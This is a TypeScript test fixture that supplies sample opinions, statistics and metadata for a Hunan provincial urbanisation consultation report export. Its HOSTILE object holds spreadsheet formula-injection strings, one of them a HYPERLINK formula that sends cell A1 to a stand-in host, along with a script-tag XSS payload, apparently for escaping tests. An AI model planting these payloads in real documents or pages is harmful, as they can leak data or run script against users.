/**
 * Sample input for the consultation's office documents: used by their tests and by
 * bench/summary-export.ts. Nothing here touches a database.
 */
import type { ConsultationStats, Disposition, ReportMeta, SummaryRow } from './consultation-report-types.js';

export const SAMPLE_META: ReportMeta = {
  planTitle: '湖南省推进以人为核心的新型城镇化实施方案(征求意见稿)',
  issuer: '湖南省推进新型城镇化工作领导小组办公室',
  deadline: '2021-07-21',
  // 2021-07-22 in China.
  generatedAt: '2021-07-21T16:30:00.000Z',
};

/** Text a spreadsheet or a word processor might take for a formula, markup or an escape. */
export const HOSTILE = {
  hyperlink: '=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")',
  plus: '+1+2',
  minus: '-3+4',
  at: '@SUM(A1:A2)',
  tab: '\t=1+1',
  cr: '\r=2+2',
  script: '<script>alert("x")</script>',
  entity: '&amp; &lt; 甲&乙',
  escape: '_x0041_ stays _x0041_',
} as const;

const UNITS = [
  '省发展改革委',
  '省教育厅',
  '省公安厅',
  '省民政厅',
  '省财政厅',
  '省人力资源社会保障厅',
  '省自然资源厅',
  '省住房城乡建设厅',
  '省交通运输厅',
  '省水利厅',
];

const CLAUSES = [
  '(一)深化户籍制度改革',
  '(二)推动城镇基本公共服务覆盖未落户常住人口',
  '(三)提升农业转移人口就业能力',
  '(十五)加快推进新型城市建设',
];

const DISPOSITIONS: readonly (Disposition | null)[] = ['adopted', 'partly_adopted', 'rejected', null];

/** `units` unit names: the ten above, then 第N单位 as needed. */
export function sampleUnits(units: number): string[] {
  return Array.from({ length: units }, (_, i) => UNITS[i] ?? `湖南省第${i + 1}成员单位`);
}

/**
 * `count` opinions spread over `units` units, with text of realistic length (a sentence or
 * three each) and every decision, undecided ones included.
 */
export function* sampleRows(count: number, units = 50): Generator<SummaryRow> {
  const names = sampleUnits(units);
  for (let i = 0; i < count; i++) {
    const disposition = DISPOSITIONS[i % DISPOSITIONS.length] ?? null;
    yield {
      seq: i + 1,
      unit: names[i % names.length] ?? '',
      clause: CLAUSES[i % CLAUSES.length] ?? '',
      quote: i % 3 === 0 ? null : '推动城镇基本公共服务由主要对本地户籍人口提供向对常住人口提供转变，保障农业转移人口享有基本公共服务。',
      opinion: `建议将第${(i % 40) + 1}款中“常住人口”的范围进一步明确，并补充随迁子女入学、住房保障等方面的具体措施，便于各地对照落实。(意见${i + 1})`,
      suggestion: i % 2 === 0 ? null : '修改为：“推动城镇基本公共服务覆盖全部常住人口，保障随迁子女平等享有受教育权利。”',
      unitReason: i % 4 === 0 ? null : '随迁子女入学是农业转移人口市民化的关键，需明确保障责任。',
      disposition,
      reason:
        disposition === null || disposition === 'adopted'
          ? null
          : '相关内容已在其他条款中表述，且具体措施由各市州结合实际制定，本方案不作细化规定。',
    };
  }
}

export const SAMPLE_STATS: ConsultationStats = {
  consulted: ['省发展改革委', '省教育厅', '省公安厅', '省民政厅', '省财政厅', '省人力资源社会保障厅', '省自然资源厅'],
  replied: ['省发展改革委', '省教育厅'],
  noOpinion: ['省公安厅'],
  late: ['省民政厅'],
  notReplied: ['省财政厅', '省人力资源社会保障厅', '省自然资源厅'],
  treatMissingAsNoOpinion: true,
  opinions: 9,
  adopted: 4,
  partlyAdopted: 2,
  rejected: 1,
  undecided: 2,
};
